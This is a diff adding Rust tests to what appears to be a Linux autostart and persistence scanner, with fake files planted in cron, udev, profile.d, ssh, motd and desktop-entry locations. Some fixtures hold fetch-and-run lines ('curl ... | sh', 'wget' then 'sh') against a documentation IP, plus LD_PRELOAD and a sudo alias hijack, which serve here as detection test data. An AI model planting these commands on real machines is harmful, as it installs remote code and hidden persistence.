@@ -160,3 +160,147 @@ fn a_machine_without_any_has_neither_rows_nor_problems() {
     let (_folder, machine) = disk(&[]);
     assert_eq!(observed(&machine), Observed::default());
 }
+
+/// Way, event, user, path, line, program and whether it starts.
+fn placed(row: &Autostart) -> String {
+    let optional = |text: &Option<String>| text.clone().unwrap_or_else(|| "-".into());
+    let line = row.line.map_or("-".into(), |line| line.to_string());
+    let [user, program] = [&row.user, &row.program].map(optional);
+    [&row.way, &row.event, &user, &row.path, &line, &program, &row.starts.to_string()]
+        .map(String::as_str)
+        .join("|")
+}
+
+fn runs(folder: &TempDir, paths: &[&str]) {
+    for path in paths {
+        let mode = fs::Permissions::from_mode(0o755);
+        fs::set_permissions(folder.path().join(path), mode).unwrap();
+    }
+}
+
+#[test]
+fn each_further_way_gives_its_rows() {
+    let (folder, machine) = disk(&[
+        ("var/spool/cron/atjobs/a0000101c3a4b0", b"#!/bin/sh\ncd / || {\n}\n/opt/at\n"),
+        ("etc/anacrontab", b"1 5 x /opt/ana\n"),
+        ("etc/profile.d/x.sh", b"/opt/p &\n"),
+        ("etc/environment", b"LD_PRELOAD=/opt/x.so\n"),
+        ("home/ann/.bashrc", b"# x\nalias sudo='/opt/s'\n"),
+        ("etc/udev/rules.d/1.rules", b"RUN+=\"/opt/u\"\n"),
+        ("usr/lib/udev/rules.d/1.rules", b"RUN+=\"/opt/shadowed\"\n"),
+        ("etc/network/interfaces", b"iface x inet dhcp\n up /opt/n\n"),
+        ("etc/NetworkManager/dispatcher.d/pre-up.d/9", b"#!/bin/sh\n"),
+        ("usr/share/dbus-1/system-services/a.service", b"[D-BUS Service]\nExec=/opt/d\nUser=bus\n"),
+        ("home/ann/.local/share/dbus-1/services/b.service", b"[D-BUS Service]\nExec=/bin/false\n"),
+        ("etc/systemd/system-generators/g", b"#!/bin/sh\n"),
+        ("usr/lib/systemd/system-generators/g", b"\x7fELF\0"),
+        ("usr/share/applications/f.desktop", b"[Desktop Entry]\nExec=firefox\n"),
+        ("home/ann/.local/share/applications/f.desktop", b"[Desktop Entry]\nExec=/opt/f\n"),
+        ("usr/share/applications/g.desktop", b"[Desktop Entry]\nExec=same\n"),
+        ("home/ann/.local/share/applications/g.desktop", b"[Desktop Entry]\nExec=same\n"),
+        ("home/ann/.local/share/applications/h.desktop", b"[Desktop Entry]\nExec=own\n"),
+        ("etc/logrotate.d/l", b"/x {\npostrotate\n/opt/l\nendscript\n}\n"),
+        ("home/ann/.ssh/config", b"Host *\nProxyCommand /opt/c %h\n"),
+        ("home/ann/.ssh/rc", b"/opt/rc\n"),
+        ("etc/update-motd.d/50-x", b"#!/bin/sh\ncurl -s http://192.0.2.7/x | sh\n"),
+        ("usr/lib/systemd/system-sleep/s", b"#!/bin/sh\n"),
+        ("etc/kernel/postinst.d/k", b"#!/bin/sh\n"),
+        ("etc/initramfs-tools/scripts/init-top/i", b"#!/bin/sh\n"),
+        ("etc/bash_completion.d/c", b"complete x\n"),
+        ("etc/dhcp/dhclient-exit-hooks.d/h", b"x\n"),
+    ]);
+    runs(
+        &folder,
+        &[
+            "var/spool/cron/atjobs/a0000101c3a4b0",
+            "etc/NetworkManager/dispatcher.d/pre-up.d/9",
+            "etc/systemd/system-generators/g",
+            "usr/lib/systemd/system-generators/g",
+            "etc/update-motd.d/50-x",
+            "etc/kernel/postinst.d/k",
+            "etc/initramfs-tools/scripts/init-top/i",
+        ],
+    );
+    let owner = rustix::process::getuid().as_raw();
+    let seen = observed(&machine);
+    let mut rows: Vec<String> = seen.rows.iter().map(placed).collect();
+    rows.sort();
+    let at = format!("at|clock|{owner}|/var/spool/cron/atjobs/a0000101c3a4b0|4|/opt/at|true");
+    let expected = [
+        &at,
+        "completion|shell|-|/etc/bash_completion.d/c|-|-|true",
+        "cron|clock|root|/etc/anacrontab|1|/opt/ana|true",
+        "dbus|message|ann|/home/ann/.local/share/dbus-1/services/b.service|2|/bin/false|false",
+        "dbus|message|bus|/usr/share/dbus-1/system-services/a.service|2|/opt/d|true",
+        "generator|boot|root|/etc/systemd/system-generators/g|-|/etc/systemd/system-generators/g|true",
+        "generator|boot|root|/usr/lib/systemd/system-generators/g|-|/usr/lib/systemd/system-generators/g|false",
+        "initramfs|boot|root|/etc/initramfs-tools/scripts/init-top/i|-|/etc/initramfs-tools/scripts/init-top/i|true",
+        "kernel|kernel|root|/etc/kernel/postinst.d/k|-|/etc/kernel/postinst.d/k|true",
+        "logrotate|clock|root|/etc/logrotate.d/l|3|/opt/l|true",
+        "menu|command|ann|/home/ann/.local/share/applications/f.desktop|-|/opt/f|true",
+        "motd|log-in|root|/etc/update-motd.d/50-x|-|/etc/update-motd.d/50-x|true",
+        "network|network|root|/etc/NetworkManager/dispatcher.d/pre-up.d/9|-|/etc/NetworkManager/dispatcher.d/pre-up.d/9|true",
+        "network|network|root|/etc/dhcp/dhclient-exit-hooks.d/h|-|/etc/dhcp/dhclient-exit-hooks.d/h|true",
+        "network|network|root|/etc/network/interfaces|2|/opt/n|true",
+        "profile|log-in|-|/etc/environment|1|-|true",
+        "profile|log-in|-|/etc/profile.d/x.sh|1|/opt/p|true",
+        "profile|shell|ann|/home/ann/.bashrc|2|/opt/s|true",
+        "sleep|sleep|root|/usr/lib/systemd/system-sleep/s|-|/usr/lib/systemd/system-sleep/s|false",
+        "ssh|command|ann|/home/ann/.ssh/config|2|/opt/c|true",
+        "ssh|log-in|ann|/home/ann/.ssh/rc|1|/opt/rc|true",
+        "udev|device|root|/etc/udev/rules.d/1.rules|1|/opt/u|true",
+        "udev|device|root|/usr/lib/udev/rules.d/1.rules|1|/opt/shadowed|false",
+    ];
+    assert_eq!(rows, expected);
+    let traits = |way: &str| seen.rows.iter().find(|row| row.way == way).unwrap().traits.clone();
+    assert_eq!(traits("motd").as_deref(), Some("download"));
+    let time = seen.rows.iter().find(|row| row.way == "at").unwrap().schedule.clone();
+    assert_eq!(time.as_deref(), Some("2026-04-11T18:56:00Z"));
+    assert_eq!(seen.problems, []);
+}
+
+#[test]
+fn folders_of_programs_hold_what_they_should_not() {
+    let (folder, machine) = disk(&[("etc/update-motd.d/good", b"#!/bin/sh\n")]);
+    let inside = |name: &str| folder.path().join("etc/update-motd.d").join(name);
+    rustix::fs::mknodat(
+        rustix::fs::CWD,
+        inside("pipe"),
+        rustix::fs::FileType::Fifo,
+        rustix::fs::Mode::from_raw_mode(0o755),
+        0,
+    )
+    .unwrap();
+    symlink("/nowhere", inside("gone")).unwrap();
+    symlink("/etc/update-motd.d/loop", inside("loop")).unwrap();
+    fs::create_dir_all(folder.path().join("etc/udev/rules.d/x.rules")).unwrap();
+    fs::create_dir_all(folder.path().join("etc/profile")).unwrap();
+    let name = <std::ffi::OsStr as std::os::unix::ffi::OsStrExt>::from_bytes(b"a\nb\xff");
+    write(&folder.path().join("etc/update-motd.d").join(name), b"x");
+    let seen = observed(&machine);
+    let names: Vec<_> = seen.rows.iter().map(|row| row.name.as_str()).collect();
+    assert_eq!(names, ["a\nb\\xff", "good"]);
+    let problems: Vec<_> = seen.problems.iter().map(|p| (&*p.subject, p.reason)).collect();
+    let expected =
+        [("/etc/profile", Reason::WrongType), ("/etc/update-motd.d/pipe", Reason::WrongType)];
+    assert_eq!(problems, expected);
+}
+
+#[test]
+fn what_only_several_lines_do_together_is_a_row_of_the_file() {
+    let (_folder, machine) = disk(&[
+        ("etc/profile.d/x.sh", b"wget -q http://192.0.2.7/a.sh\nLANG=C\nsh a.sh\n"),
+        ("home/ann/.xinitrc", b"curl -s http://192.0.2.7/x | sh\n"),
+    ]);
+    let seen = observed(&machine);
+    let rows: Vec<_> =
+        seen.rows.iter().map(|row| (&*row.name, row.line, row.traits.as_deref())).collect();
+    let expected = [
+        ("x.sh", Some(1), None),
+        ("x.sh", Some(3), None),
+        ("x.sh", None, Some("download")),
+        (".xinitrc", Some(1), Some("download")),
+    ];
+    assert_eq!(rows, expected);
+    assert_eq!(seen.rows[2].command, "/etc/profile.d/x.sh");
+}
